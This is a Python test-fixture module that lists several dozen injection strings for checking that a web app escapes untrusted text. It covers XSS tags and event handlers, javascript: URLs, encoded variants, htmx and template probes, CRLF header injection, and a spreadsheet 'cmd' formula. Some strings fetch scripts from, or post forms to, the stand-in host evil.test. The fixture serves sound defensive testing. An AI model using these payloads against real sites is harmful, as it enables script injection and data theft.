"""What strangers write in the hope that a browser takes it for more than text (PURE).

Each string holds a word of its own, `wNw`, by which it is found again. Every tag in them has the attribute data-pwn, every
script sets window.pwned, and everything that would be fetched is at evil.test.
"""

_RUN = "window.pwned=1"
_PLAIN = (
    f"<script data-pwn>{_RUN}</script>",
    f"</title><script data-pwn>{_RUN}</script>",
    f"</textarea><script data-pwn>{_RUN}</script>",
    f"</pre></code></table><script data-pwn>{_RUN}</script>",
    "<script data-pwn src=//evil.test/a.js></script>",
    f"<ScRiPt data-pwn\t>{_RUN}</sCrIpT >",
    f"<script data-pwn>{_RUN}//",
    f"<<script data-pwn>{_RUN}//<</script>",
    f"<img data-pwn src=x onerror={_RUN}>",
    "<img data-pwn src=https://evil.test/pixel.png>",
    f"<svg data-pwn onload={_RUN}>",
    f"<svg data-pwn><animate data-pwn onbegin={_RUN} attributeName=x></svg>",
    f"<svg data-pwn><script data-pwn>{_RUN}</script></svg>",
    f"<math data-pwn><mtext><style data-pwn><img data-pwn src onerror={_RUN}>",
    f"<body data-pwn onload={_RUN}>",
    f"<details data-pwn open ontoggle={_RUN}>",
    f"<input data-pwn autofocus onfocus={_RUN}>",
    f"<video data-pwn><source data-pwn onerror={_RUN}>",
    f"<iframe data-pwn srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe data-pwn src=javascript:parent.{_RUN}></iframe>",
    f"<object data-pwn data=javascript:{_RUN}></object>",
    "<embed data-pwn src=//evil.test/x.swf>",
    "<base data-pwn href=//evil.test/>",
    "<meta data-pwn http-equiv=refresh content='0;url=https://evil.test/'>",
    "<link data-pwn rel=stylesheet href=//evil.test/a.css>",
    "<style data-pwn>@import '//evil.test/b.css';body{display:none}</style>",
    "<p data-pwn style='background:url(//evil.test/c.png);position:fixed;inset:0'>",
    "<form data-pwn action=//evil.test/><button data-pwn>log in again</button></form>",
    f"<a data-pwn href=javascript:{_RUN}>here</a>",
    f"<a data-pwn href='data:text/html,<script>{_RUN}</script>'>here</a>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt&colon;{_RUN}",
    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==#{_RUN}",
    "https://evil.test/",
    f'" onmouseover="{_RUN}" data-pwn="',
    f"' onfocus='{_RUN}' autofocus data-pwn='",
    f"` onfocus={_RUN} data-pwn ",
    f'"><script data-pwn>{_RUN}</script>',
    f"'><script data-pwn>{_RUN}</script>",
    f"--><script data-pwn>{_RUN}</script><!--",
    f"]]><script data-pwn>{_RUN}</script>",
    f"&lt;script data-pwn&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script data-pwn&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript data-pwn%3E{_RUN}%3C/script%3E",
    f"\\u003cscript data-pwn\\u003e{_RUN}\\u003c/script\\u003e",
    f"+ADw-script data-pwn+AD4-{_RUN}+ADw-/script+AD4-",
    f"\uff1cscript data-pwn\uff1e{_RUN}\uff1c/script\uff1e",
    "{{7*7}}q {% raw %}{{self}}{% endraw %}",
    "${7*7}q #{7*7}q <%= 7*7 %>q",
    "<div data-pwn hx-get=//evil.test/h hx-trigger=load></div>",
    f"<div data-pwn hx-get=/overview/live hx-trigger=load hx-on::after-request={_RUN}></div>",
    f"<div data-pwn hx-get=/overview/live hx-trigger=load hx-vals='js:{{a:{_RUN}}}'></div>",
    f'" hx-get="//evil.test/i" hx-trigger="load" data-pwn="{_RUN}',
    "\u202egnp.exe \u2066x\u2069 \u200b\u00ad",
    "\x1b[31mred\x1b]0;owned\x07 \x00\x08\x7f\x9b",
    "a\r\nX-Evil: 1\r\n\r\n<script data-pwn>window.pwned=1</script>",
    "\ud800\udfff lone \ufffe\uffff",
    '=HYPERLINK("https://evil.test/";"here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Z\u0351\u0343\u0350algo " + "\u0336" * 200,
    "x" * 5000 + f"<script data-pwn>{_RUN}</script>",
)
CORPUS = tuple(f"w{number}w {text}" for number, text in enumerate(_PLAIN))
# Not of text that JSON and SQL can carry: what a stage would have put in the place of it.
STORED = tuple(text.encode("utf-8", "replace").decode().replace("\0", "\ufffd") for text in CORPUS)


def word_of(text: str) -> str:
    """Return the word by which a string of the corpus is found."""
    return text.split(" ", 1)[0]
